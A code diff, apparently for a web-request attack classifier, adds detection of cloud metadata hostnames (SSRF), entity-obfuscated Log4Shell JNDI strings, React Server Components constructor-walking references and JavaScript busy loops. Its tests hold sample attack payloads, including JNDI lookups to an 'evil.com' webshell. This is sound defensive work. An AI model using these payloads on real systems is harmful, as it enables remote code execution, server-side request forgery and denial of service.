@@ -401,7 +401,18 @@ fn internal_host(host: &str) -> Option<&'static str> {
     let folded = fold_host(host);
     let h = folded.as_deref().unwrap_or(host).trim_end_matches('.');
     let h = h.to_ascii_lowercase();
-    if h == "metadata.google.internal" || h == "metadata" || h == "instance-data" {
+    // Google, AWS's name, Equinix Metal (Packet), Oracle, Alibaba, DigitalOcean, Hetzner.
+    if matches!(
+        h.as_str(),
+        "metadata.google.internal"
+            | "metadata"
+            | "instance-data"
+            | "instance-data.ec2.internal"
+            | "metadata.packet.net"
+            | "metadata.platformequinix.com"
+            | "metadata.oraclecloud.com"
+            | "metadata.tencentyun.com"
+    ) {
         return Some("metadata");
     }
     if LOOPBACK_NAMES.contains(&h.as_str())
@@ -786,6 +797,17 @@ fn url_param(param: &str) -> bool {
 /// `n`, `${env:X:-d}` = `d`) and reports a `jndi:` lookup in the result.
 pub fn log4shell(s: &str) -> Option<ClassFound> {
     if !s.contains("${") {
+        // `$&lbracejndi:`, `&#x24;&#000123;jndi:`: entities a lenient
+        // decoder resolves (no `;`, any number of leading zeros).
+        if s.len() <= 4096
+            && s.contains('&')
+            && memchr::memmem::find(s.as_bytes(), b"jndi").is_some()
+        {
+            let d = loose_entities(s);
+            if d.contains("${") {
+                return log4shell(&d);
+            }
+        }
         return None;
     }
     let mut cur = s.get(..4096.min(s.len())).unwrap_or(s).to_string();
@@ -2605,7 +2627,20 @@ fn js_code(lower: &str) -> Option<ClassFound> {
             return Some(("code", "code.node", 0.8));
         }
     }
+    // React Server Components' flight references walking to the Function
+    // constructor (`"$3:constructor:constructor"`, `"$7:Module:prototype"`).
+    if lower.contains("constructor") || lower.contains("prototype") || lower.contains("__proto__") {
+        if let Some(f) = flight_reference(lower) {
+            return Some(f);
+        }
+    }
     let t = lower.trim();
+    // `while(new Date);`: a loop with a blank in its condition, as a statement.
+    if let Some(cond) = t.strip_prefix("while(").and_then(|r| r.strip_suffix(");")) {
+        if t.len() <= 64 && !cond.trim().is_empty() && !cond.contains([';', '(', ')']) {
+            return Some(("code", "code.js_loop", 0.6));
+        }
+    }
     if let Some(r) = t.strip_prefix("@{") {
         if r.trim_start().starts_with('[') && r.trim_end().ends_with('}') {
             return Some(("code", "code.perl", 0.75));
@@ -2642,6 +2677,99 @@ fn js_code(lower: &str) -> Option<ClassFound> {
             if r.starts_with('(') && r.ends_with(')') && r.len() <= 64 && !r.contains(' ') {
                 return Some(("code", "code.js_loop", 0.6));
             }
+        }
+    }
+    None
+}
+
+/// `&lbrace`, `&rbrace`, `&dollar`, `&lcub`, `&rcub` (`;` optional) and
+/// numeric references with any number of leading zeros, as their characters.
+fn loose_entities(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    let mut rest = s;
+    while let Some(at) = rest.find('&') {
+        out.push_str(rest.get(..at).unwrap_or(""));
+        let r = rest.get(at + 1..).unwrap_or("");
+        let lower = r.get(..8.min(r.len())).unwrap_or("").to_ascii_lowercase();
+        let named = [
+            ("lbrace", '{'),
+            ("rbrace", '}'),
+            ("lcub", '{'),
+            ("rcub", '}'),
+            ("dollar", '$'),
+        ]
+        .into_iter()
+        .find(|(n, _)| lower.starts_with(n));
+        if let Some((n, c)) = named {
+            out.push(c);
+            let after = r.get(n.len()..).unwrap_or("");
+            rest = after.strip_prefix(';').unwrap_or(after);
+            continue;
+        }
+        if let Some(num) = r.strip_prefix('#') {
+            let (hex, digits) = match num.strip_prefix(['x', 'X']) {
+                Some(h) => (true, h),
+                None => (false, num),
+            };
+            let n = digits
+                .bytes()
+                .take_while(|c| {
+                    if hex {
+                        c.is_ascii_hexdigit()
+                    } else {
+                        c.is_ascii_digit()
+                    }
+                })
+                .count();
+            let text = digits.get(..n).unwrap_or("").trim_start_matches('0');
+            let v = if text.len() > 6 {
+                None
+            } else if text.is_empty() {
+                Some(0)
+            } else {
+                u32::from_str_radix(text, if hex { 16 } else { 10 }).ok()
+            };
+            if let Some(c) = v.filter(|_| n > 0).and_then(char::from_u32) {
+                out.push(c);
+                let after = digits.get(n..).unwrap_or("");
+                rest = after.strip_prefix(';').unwrap_or(after);
+                continue;
+            }
+        }
+        out.push('&');
+        rest = r;
+    }
+    out.push_str(rest);
+    out
+}
+
+/// A flight reference (`$` + hex id, then `:`-separated property names)
+/// whose path goes through `constructor`, `prototype` or `__proto__`.
+fn flight_reference(lower: &str) -> Option<ClassFound> {
+    let b = lower.as_bytes();
+    for (at, _) in lower.match_indices('$').take(32) {
+        let mut i = at + 1;
+        if b.get(i) == Some(&b'@') {
+            i += 1;
+        }
+        let id = i;
+        while b.get(i).is_some_and(u8::is_ascii_hexdigit) && i - id < 8 {
+            i += 1;
+        }
+        if i == id || b.get(i) != Some(&b':') {
+            continue;
+        }
+        let path = lower.get(i + 1..).unwrap_or("");
+        let end = path
+            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == ':'))
+            .unwrap_or(path.len());
+        if path
+            .get(..end)
+            .unwrap_or("")
+            .split(':')
+            .any(|p| matches!(p, "constructor" | "prototype" | "__proto__"))
+        {
+            return Some(("code", "code.react_flight", 0.85));
         }
     }
     None
@@ -2705,6 +2833,41 @@ mod tests {
         ] {
             assert_eq!(files(b, c), None, "flagged {b:?}");
         }
+    }
+
+    #[test]
+    fn flight_references_loops_and_metadata_hosts() {
+        for a in [
+            "{'_prefix':'x', '_formData':{'get':'$3:constructor:constructor'}}",
+            "{\"reason\":{\"0\":\"$7:Module:prototype\"}}",
+            "$@1:__proto__:then",
+            "while(new Date);",
+        ] {
+            assert!(code(a).is_some(), "missed {a:?}");
+        }
+        for a in [
+            "$&lbracejndi:ldap://evil.com/webshell}",
+            "&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.om/w}",
+        ] {
+            assert!(log4shell(a).is_some(), "missed {a:?}");
+        }
+        assert_eq!(
+            log4shell("Tom &amp; Jerry talk about jndi: lookups &#123;"),
+            None
+        );
+        for b in [
+            "Price $3: constructor kits on sale",
+            "the constructor costs $5:00",
+            "while (new Date) is a busy loop, avoid it",
+            "while(x) { y(); }",
+        ] {
+            assert_eq!(code(b), None, "flagged {b:?}");
+        }
+        let v = cx(Kind::Value, "query.ssrf");
+        assert_eq!(
+            urls("https://metadata.packet.net/userdata", &v).map(|f| f.1),
+            Some("ssrf.cloud_metadata")
+        );
     }
 
     #[test]
